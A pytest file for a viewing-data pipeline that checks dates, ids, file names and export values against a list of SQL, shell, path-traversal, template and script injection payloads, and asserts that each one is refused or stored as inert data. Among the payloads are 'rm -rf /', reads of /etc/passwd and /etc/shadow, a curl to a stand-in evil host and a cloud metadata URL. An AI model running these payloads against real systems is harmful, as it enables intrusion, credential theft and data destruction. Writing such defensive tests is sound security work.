"""Inputs that reach code: a corpus of injection and traversal payloads through every entry
point. Dates are parsed strictly (never pasted into SQL), ids and file names are confined,
values in export files are data; nothing executes, nothing escapes, the warehouse is intact."""

from __future__ import annotations

import datetime as dt
import json
import shutil
import tempfile
from pathlib import Path

import duckdb
import pytest
from typer.testing import CliRunner

from rewatch.cli import app
from rewatch.contract import ExportError, parse_date, read_manifest
from rewatch.forget import forget_household
from rewatch.load import load_night
from rewatch.pipeline import night_of
from rewatch.rawzone import partition_path
from tests.helpers import HOUSEHOLDS, PROFILES, TITLES, event, write_night

# Where the payloads that write files aim: a folder of this test process, empty after every test.
TRAP = Path(tempfile.mkdtemp(prefix="rewatch-injection-trap-"))
PAYLOADS = [
    "2026-03-02'; drop table fct_viewing_sessions; --",
    "2026-03-02' or '1'='1",
    "' or 1=1 --",
    '" or ""="',
    "1; select * from duckdb_settings()",
    f"2026-03-02); copy (select 1) to '{TRAP}/pwned.csv'; --",
    f"'); attach '{TRAP}/evil.duckdb' as evil; --",
    "install httpfs; load httpfs;",
    "select * from read_csv('/etc/passwd')",
    "read_text('/etc/shadow')",
    "2026-03-02 union select * from pg_timezone_names()",
    f"$(touch {TRAP}/pwned)",
    f"`touch {TRAP}/pwned`",
    "; rm -rf / ;",
    "| cat /etc/passwd",
    "&& curl http://evil.example/x",
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "/tmp/../etc/passwd",
    "./../2026-03-01/playback_events.csv",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc",
    "playback_events.csv\x00.txt",
    "file:///etc/passwd",
    "s3://bucket/key",
    "http://169.254.169.254/latest/meta-data/",
    "{{ run_query('drop table x') }}",
    "{% do adapter.execute('drop table x') %}",
    "{{ env_var('HOME') }}",
    "${HOME}",
    "%s%s%s%n",
    "{0.__class__}",
    "__import__('os').system('id')",
    "2026-13-45",
    "2026-02-30",
    "26-03-02",
    "2026/03/02",
    "20260302",
    "2026-03-02T00:00:00",
    "2026-03-02\n2026-03-03",
    " 2026-03-02 ; ",
    "0000-00-00",
    "9999-99-99",
    "-1",
    "",
    " ",
    "null",
    "None",
    "NaN",
    "A" * 5000,
    "\u202e2026-03-02",
    "２０２６-０３-０２",
    "2026-03-02\u0000",
    "<script>alert(1)</script>",
    "' ; DROP SCHEMA main CASCADE ; --",
]
assert len(PAYLOADS) >= 50


@pytest.fixture(autouse=True)
def nothing_written_where_payloads_aim():
    yield
    assert not list(TRAP.iterdir()), "a payload wrote a file: it was executed"


@pytest.fixture(scope="module", autouse=True)
def trap_removed_after_the_module():
    yield
    shutil.rmtree(TRAP, ignore_errors=True)


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_date_from_cli_dag_or_api_is_parsed_strictly(payload):
    with pytest.raises(ValueError, match="not a date"):
        parse_date(payload)
    with pytest.raises(ValueError, match="not a date"):
        night_of(payload)  # what the DAG's tasks (and runs made through the REST API) call


def test_every_cli_date_option_refuses_every_payload(tmp_path, monkeypatch):
    monkeypatch.setenv("REWATCH_WAREHOUSE_DIR", str(tmp_path / "warehouse"))
    runner = CliRunner()
    for payload in PAYLOADS:
        for args in (
            ["run", "--date", payload],
            ["run", "--from", payload, "--to", "2026-03-02"],
            ["backfill", "--from", "2026-03-02", "--to", payload],
            ["generate", "--out", str(tmp_path / "x"), "--start", payload, "--nights", "1"],
        ):
            result = runner.invoke(app, args)
            assert result.exit_code == 2, (args, result.output)
            assert "not a date" in result.output or "Invalid value" in result.output
    assert not (tmp_path / "x").exists() and not (tmp_path / "warehouse").exists()


def test_import_refuses_every_payload_as_household_id_or_night(tmp_path):
    from rewatch.netflix import HOUSEHOLD_ID
    from tests.rewatch.test_netflix import FIXTURES, NAMES

    runner = CliRunner()
    out = tmp_path / "o"
    base = ["import-netflix", str(FIXTURES / NAMES[1]), "--out", str(out)]
    for payload in PAYLOADS:
        result = runner.invoke(app, [*base, "--household-id", payload])
        if HOUSEHOLD_ID.match(payload):  # a plain name (`null`, `20260302`): an id like any other
            assert result.exit_code == 0, result.output
        else:
            assert result.exit_code == 1 and "household id" in result.output, payload
        result = runner.invoke(app, [*base, "--household-id", "h1", "--night", payload])
        assert result.exit_code == 2, payload
    # Whatever was accepted landed inside the exports folder, as one file per household.
    assert [p.name for p in tmp_path.iterdir()] == ["o"]
    written = [p.relative_to(out) for p in out.rglob("*") if p.is_file()]
    assert all(len(p.parts) == 2 for p in written)


def test_manifest_file_names_are_confined_to_the_night(workdir):
    night = dt.date(2026, 3, 2)
    folder = write_night(workdir.exports_dir, night, [event("e1", "play")])
    manifest = json.loads((folder / "_manifest.json").read_text(encoding="utf-8"))
    for payload in PAYLOADS:
        manifest["files"][0]["path"] = payload
        (folder / "_manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
        with pytest.raises(ExportError) as refused:
            read_manifest(folder)
        message = str(refused.value)
        assert any(
            text in message
            for text in ("outside the night's folder", "not a valid name", "not a file the export contract knows")
        ), (payload, message)


def test_payloads_inside_export_files_are_data_and_execute_nothing(workdir):
    """Every payload as an event id, title id, device, household timezone, profile name: loaded
    (or quarantined) verbatim as values; no statement runs, no file appears."""
    night = dt.date(2026, 3, 2)
    safe = [p for p in PAYLOADS if "\x00" not in p and p.strip()]
    events = [event(f"{i}:{p}", "heartbeat", device=p, title=p) for i, p in enumerate(safe)]
    households = [*HOUSEHOLDS, *[[f"hx{i}", "XX", p] for i, p in enumerate(safe)]]
    profiles = [*PROFILES, *[[f"px{i}", "hh1", p, "false"] for i, p in enumerate(safe)]]
    write_night(workdir.exports_dir, night, events, titles=TITLES, households=households, profiles=profiles)
    result = load_night(workdir.exports_dir, workdir.raw_dir, night)
    assert result.events_loaded == len(safe)
    # Payload time zones are never accepted as zones: quarantined with their reason.
    assert result.quarantined_by_reason == {"invalid_timezone": len(safe)}
    con = duckdb.connect()
    try:
        loaded = con.execute(
            "select event_id, device_id, title_id from read_parquet(?) order by _line",
            [str(partition_path(workdir.raw_dir, "playback_events", night))],
        ).fetchall()
        names = {
            r[0]
            for r in con.execute(
                "select profile_name from read_parquet(?)", [str(partition_path(workdir.raw_dir, "profiles", night))]
            ).fetchall()
        }
    finally:
        con.close()
    assert [(e, d, t) for e, d, t in loaded] == [(f"{i}:{p}".strip(), p.strip(), p.strip()) for i, p in enumerate(safe)]
    assert set(safe) <= names

    # forget with every payload: values are bound, never executed; the raw zone stays intact.
    for payload in PAYLOADS:
        outcome = forget_household(workdir, payload)
        assert outcome.rows_removed == {}
    assert load_night(workdir.exports_dir, workdir.raw_dir, night).events_loaded == len(safe)
